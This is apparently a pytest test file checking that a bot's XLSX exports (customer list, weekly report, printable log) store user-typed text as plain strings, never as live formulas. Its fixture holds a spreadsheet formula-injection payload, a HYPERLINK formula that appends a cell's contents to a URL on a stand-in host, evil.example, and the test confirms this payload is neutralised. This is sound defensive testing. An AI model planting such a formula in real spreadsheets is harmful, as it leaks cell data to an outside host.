"""Issue #8, item 6: text a user typed is never written as a live formula (or an error
value) into any of the four XLSX outputs: the customer export (masked and --full), the
weekly report and the printable log. Numbers stay numbers."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.assistant import Assistant
from bot.clock import FakeClock
from bot.customers_io import export_customers
from bot.services import Services
from tests.conftest import Chat
from tests.test_reports import TEAM_A, L, World, add_log, make_people, seed

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
TYPED = (EVIL, "#N/A", "+86 138", "-2号杆拉线", "@SUM(1+1)")


def formulas(data: bytes) -> list[str]:
    """The <f> elements of every worksheet: there must be none."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f>.*?</f>", z.read(name).decode())]


def text_cells(data: bytes) -> dict[str, str]:
    """value -> openpyxl's data type, for every cell whose value is one of TYPED."""
    wb = load_workbook(io.BytesIO(data))
    return {c.value: c.data_type for ws in wb.worksheets for r in ws.iter_rows() for c in r
            if isinstance(c.value, str) and c.value in TYPED}


@pytest.fixture
async def seeded(services: Services, clock: FakeClock) -> World:
    await make_people(services, clock)
    w = await seed(services, clock)
    await services.db.execute("UPDATE customers SET name = ?, situation = ? "
                              "WHERE account_no = '5500010001'", (EVIL, "#N/A"))
    for i, content in enumerate(TYPED):
        await add_log(services, w, "张三", L(2026, 12, 3, 10, i), ("patrol",), "1号台区",
                      content, problems=EVIL)
    return w


async def test_weekly_report_and_paper_log_hold_text_not_formulas(
        seeded: World, assistant: Assistant) -> None:
    lead = Chat(assistant, "test", "王班长")
    report = (await lead.say("/report 上周")).replies[0].attachments[0].data
    paper = (await lead.say("/export 日志 上周")).replies[0].attachments[0].data
    for data in (report, paper):
        assert formulas(data) == []
        cells = text_cells(data)
        assert set(cells) == set(TYPED) and set(cells.values()) == {"s"}
    # Numbers stay numbers: the summary's counts.
    ws = load_workbook(io.BytesIO(report)).worksheets[0]
    assert isinstance(ws.cell(2, 2).value, int)


async def test_customer_export_holds_text_not_formulas(seeded: World, services: Services,
                                                       tmp_path: Path) -> None:
    for full in (False, True):
        target = tmp_path / f"customers-{full}.xlsx"
        await export_customers(services, TEAM_A, target, full=full)
        data = target.read_bytes()
        assert formulas(data) == []
        wb = load_workbook(io.BytesIO(data))
        ws = wb.active
        assert ws is not None
        names = {c.value: c.data_type for c in ws["B"][1:]}
        assert names[EVIL] == "s"  # an ordinary customer's name: shown in both
        assert isinstance(ws["J2"].value, int) or ws["J2"].value is None  # 走访周期: a number


def test_one_place_decides() -> None:
    from openpyxl import Workbook

    from bot.xlsx_safe import row as safe_row

    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    out = safe_row(ws, [EVIL, "普通", 3, 2.5, None, "#N/A"])
    assert [getattr(v, "data_type", None) for v in out] == ["s", None, None, None, None, "s"]
    assert out[1:5] == ["普通", 3, 2.5, None]
